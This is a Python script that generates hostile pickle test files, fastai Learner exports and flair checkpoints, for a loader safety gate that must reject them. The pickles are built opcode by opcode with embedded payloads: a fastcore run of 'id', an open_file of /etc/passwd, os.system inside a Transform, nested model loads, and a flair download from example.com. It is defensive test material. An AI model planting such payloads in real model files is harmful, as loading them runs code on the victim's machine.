#!/usr/bin/python3
"""Hostile fastai exports and flair checkpoints that must fail the gate.

    /usr/bin/python3 formats/pickle/testdata/fastai/make_hostile.py

Each stream is a Learner (or flair model state) shell written opcode by
opcode, protocol 2 for fastai (Learner.export) and 4 for flair, with one
payload where the real object keeps an attribute: a fastcore run or
open_file call, a nested load_learner, a Transform whose dispatch holds
os.system, a bound method of a built object called or reaching a denied
name, fastai's _rebuild_from_type calling a reference-only global, and
flair's cached_path and transformer embeddings.
"""
import os
import struct

HERE = os.path.dirname(os.path.abspath(__file__))


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def s(text):
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def new(module, name, state=b"}"):
    """NEWOBJ of module.name with a dict state built by BUILD."""
    return glob(module, name) + b")\x81" + state + b"b"


def dict_(*pairs):
    return b"}(" + b"".join(k + v for k, v in pairs) + b"u"


def call(module, name, *args):
    return glob(module, name) + b"(" + b"".join(args) + b"tR"


def learner(**attrs):
    """A fastai Learner with the given attributes besides a plain model."""
    pairs = [(s("model"), new("torch.nn.modules.linear", "Linear")), (s("logger"), glob("__builtin__", "print"))]
    pairs += [(s(k), v) for k, v in attrs.items()]
    return b"\x80\x02" + new("fastai.learner", "Learner", dict_(*pairs)) + b"."


def transform(held):
    """A fastcore Transform built with enc=held: its encodes is a
    TypeDispatch whose _TypeDict maps object to held."""
    funcs = new("fastcore.dispatch", "_TypeDict", dict_((s("d"), b"}" + glob("__builtin__", "object") + held + b"s"),
                                                        (s("cache"), b"}")))
    return new("fastcore.transform", "Transform",
               dict_((s("encodes"), new("fastcore.dispatch", "TypeDispatch", dict_((s("funcs"), funcs)))),
                     (s("split_idx"), b"N")))


def tabular(tail):
    """A TabularPandas (memo 0) followed by tail, as the Learner's dls."""
    return learner(dls=glob("fastai.tabular.core", "TabularPandas") + b")\x81q\x00" + tail)


SAMPLES = {
    # Learner.path computed by fastcore's subprocess helper.
    "fastai_run.pkl": learner(path=call("fastcore.xtras", "run", s("id"))),
    # Learner.path computed by opening a file.
    "fastai_open_file.pkl": learner(path=call("fastcore.xtras", "open_file", s("/etc/passwd"))),
    # A nested export loaded while this one loads.
    "fastai_load_learner.pkl": learner(dls=call("fastai.learner", "load_learner", s("other.pkl"))),
    # The same loader bound by partial as opt_func.
    "fastai_partial_load_learner.pkl": learner(opt_func=call("functools", "partial", glob("fastai.learner", "load_learner"),
                                                             s("other.pkl"))),
    # An item transform whose encodes runs a shell command on each item.
    "fastai_transform_os_system.pkl": learner(dls=new("fastcore.transform", "Pipeline", dict_(
        (s("fs"), new("fastcore.foundation", "L", dict_((s("items"), b"]" + transform(glob("os", "system")) + b"a"))))))),
    # getattr(obj, "dataloaders") is listed as held; calling it is not.
    "fastai_bound_method_called.pkl": tabular(glob("__builtin__", "getattr") + b"h\x00" + s("dataloaders") +
                                              b"\x86R)R0}b"),
    # getattr of a built object reaching a denied name keeps getattr critical.
    "fastai_bound_method_denied.pkl": learner(
        dls=glob("fastai.learner", "Learner") + b")\x81q\x00" + glob("__builtin__", "getattr") + b"h\x00" +
        s("load") + b"\x86R0"),
    # _rebuild_from_type(func, type, args, dict) calls func: a reference-only global there.
    "fastai_rebuild_from_type_call.pkl": learner(dls=call("fastai.torch_core", "_rebuild_from_type",
                                                          glob("__builtin__", "getattr") + b"(" + glob("fastai.vision.core", "PILImage") +
                                                          s("create") + b"tR",
                                                          glob("fastai.torch_core", "TensorBase"),
                                                          b"(" + s("img.png") + b"t", b"}")),
}


def flair(payload):
    return (b"\x80\x04" + dict_((s("state_dict"), glob("collections", "OrderedDict") + b")R"),
                                (s("embeddings"), payload), (s("tag_type"), s("ner"))) + b".")


SAMPLES.update({
    # WordEmbeddings whose state downloads a file while loading.
    "flair_cached_path.pkl": flair(new("flair.embeddings.token", "WordEmbeddings", dict_(
        (s("name"), call("flair.file_utils", "cached_path", s("https://example.com/x.pt"), s("cache")))))),
    # Transformer embeddings: __setstate__ runs from_pretrained of the pickled name.
    "flair_transformer.pkl": flair(new("flair.embeddings.token", "TransformerWordEmbeddings", dict_(
        (s("name"), s("transformer-word-bert-base-cased")), (s("base_model_name"), s("bert-base-cased"))))),
    # The model loads another checkpoint by name while loading.
    "flair_model_load.pkl": flair(call("flair.nn.model", "Model.load", s("ner-english"))),
})


def main():
    for name, data in SAMPLES.items():
        with open(os.path.join(HERE, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
